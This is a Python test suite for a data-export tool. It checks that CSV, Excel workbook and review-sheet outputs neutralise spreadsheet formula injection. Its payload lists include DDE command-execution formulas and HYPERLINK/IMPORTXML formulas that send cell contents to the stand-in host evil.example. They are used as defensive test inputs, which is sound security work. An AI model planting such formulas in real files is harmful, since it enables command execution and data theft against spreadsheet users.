"""Cells that a spreadsheet would run, put into every file that is opened with one."""

import csv
import io
import zipfile
from pathlib import Path

import openpyxl
import polars as pl
import pytest

from flows.ask import answer
from flows.changing.report import write_tables
from flows.exports import analyst_copy, dashboard_csv, excel_csv, workbook
from flows.exports.cells import harmless
from flows.publishing.publication import Publication
from flows.reviewing.workbook import put
from models.contract import quoted
from tests.example_mart import TABLE, rows

FORMULAS = [
    "=1+1",
    "+1+1",
    "-2+3",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\ufeff=1+1",
    '"=1+1',
    "＝1+1",
    "＠SUM(A1)",
    "=cmd|'/c calc'!A0",
    '=HYPERLINK("http://evil.example/?"&A1,"klick")',
    '=DDE("cmd";"/C calc";"x")',
    "+cmd|' /C notepad'!'A1'",
    '=IMPORTXML(CONCAT("http://evil.example?v=",A1),"//a")',
]
WITHIN = [
    "gut;=1+1",
    "gut,=cmd|'/c calc'!A0",
    "gut\t@SUM(A1)",
    "gut\n=1+1",
    "gut;+1+1",
    'gut;"=1+1"',
]
TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")


def published(texts: list[str]) -> Publication:
    return Publication({TABLE: rows(*((text, "2025-W45", 3, None) for text in texts))})


def runs(cell: str) -> bool:
    """Whether a spreadsheet takes a cell for a formula rather than for a smiley or a dash."""
    bare = cell.strip(' \ufeff"')
    return bare.startswith(TRIGGERS) and len(bare) > 2 and (bare[1].isalnum() or bare[0] in "=@")


@pytest.mark.parametrize("export", [dashboard_csv, excel_csv], ids=["dashboard", "Excel, German"])
@pytest.mark.parametrize("delimiter", list(",;\t|"), ids=["comma", "semicolon", "tab", "bar"])
def test_no_cell_of_a_csv_runs_however_the_spreadsheet_parts_its_lines(
    export: object, delimiter: str, tmp_path: Path
) -> None:
    export.EXPORT.write(published(FORMULAS + WITHIN), tmp_path)  # type: ignore[attr-defined]
    (file,) = tmp_path.rglob("example.csv")
    text = file.read_bytes().decode("utf-8-sig")
    naive = [cell for line in text.splitlines() for cell in line.split(delimiter)]
    parsed = [cell for row in csv.reader(io.StringIO(text), delimiter=delimiter) for cell in row]
    assert [cell for cell in parsed + naive if runs(cell)] == []


def test_what_people_write_with_these_signs_stays_to_the_letter() -> None:
    texts = [
        "schön ;-)",
        "5,- Euro",
        "a = b",
        "C++",
        "KI; + Cloud",
        "3-4, -5 Grad",
        "a|b",
        "x, @anna",
    ]
    frame = pl.DataFrame({"text": texts})
    assert harmless(frame)["text"].to_list() == texts


def test_no_cell_of_the_workbook_is_a_formula_a_link_or_an_outside_source(tmp_path: Path) -> None:
    workbook.EXPORT.write(published(FORMULAS), tmp_path)
    with zipfile.ZipFile(tmp_path / workbook.FILE_NAME) as archive:
        parts = {name: archive.read(name) for name in archive.namelist()}
    assert not any(name.startswith(("xl/externalLinks", "xl/connections")) for name in parts)
    assert not any(
        b"<f>" in part or b"<f " in part or b"<hyperlink" in part for part in parts.values()
    )
    sheet = openpyxl.load_workbook(tmp_path / workbook.FILE_NAME)["example"]
    assert {row[0].data_type for row in sheet.iter_rows(min_row=2)} == {"s"}


def test_no_cell_of_a_review_sheet_is_a_formula_even_after_it_was_edited(tmp_path: Path) -> None:
    book = openpyxl.Workbook()
    for number, text in enumerate(FORMULAS, start=1):
        put(book.active, number, 1, text.replace("\r", "\n"))
    book.save(tmp_path / "sheet.xlsx")
    with zipfile.ZipFile(tmp_path / "sheet.xlsx") as archive:
        assert b"<f>" not in archive.read("xl/worksheets/sheet1.xml")
    cells = [row[0] for row in openpyxl.load_workbook(tmp_path / "sheet.xlsx").active.iter_rows()]
    assert {cell.data_type for cell in cells} == {"s"}
    assert all(cell.quotePrefix for cell in cells)


@pytest.mark.parametrize("delimiter", list(",;\t|"), ids=["comma", "semicolon", "tab", "bar"])
def test_no_cell_that_resonanz_sql_answers_as_csv_runs(delimiter: str, workplace: Path) -> None:
    folder = workplace / "published" / "latest"
    folder.mkdir(parents=True)
    analyst_copy.EXPORT.write(published(FORMULAS), folder)
    texts, out = FORMULAS + WITHIN, io.StringIO()
    rows = ", ".join(f"({quoted(text)}, -1, [{quoted(text)}])" for text in texts)
    answer(f'SELECT col0 AS "=1+1", col1, col2 FROM (VALUES {rows})', "csv", out)
    text = out.getvalue()
    naive = [cell for line in text.splitlines() for cell in line.split(delimiter)]
    parsed = list(csv.reader(io.StringIO(text, newline="")))
    assert [cell for row in parsed for cell in [row[0], row[2]] if runs(cell)] == []
    assert [cell for cell in naive if runs(cell) and cell != "-1"] == []
    assert {row[1] for row in parsed[1:]} == {"-1"}


def test_no_cell_of_a_report_on_a_tried_model_runs(tmp_path: Path) -> None:
    examples = pl.DataFrame({"comment_id": FORMULAS, "text": FORMULAS})
    write_tables({"examples": examples}, tmp_path)
    cells = [
        cell for row in csv.reader((tmp_path / "examples.csv").open(newline="")) for cell in row
    ]
    assert len(cells) == 2 * len(FORMULAS) + 2
    assert [cell for cell in cells if runs(cell)] == []
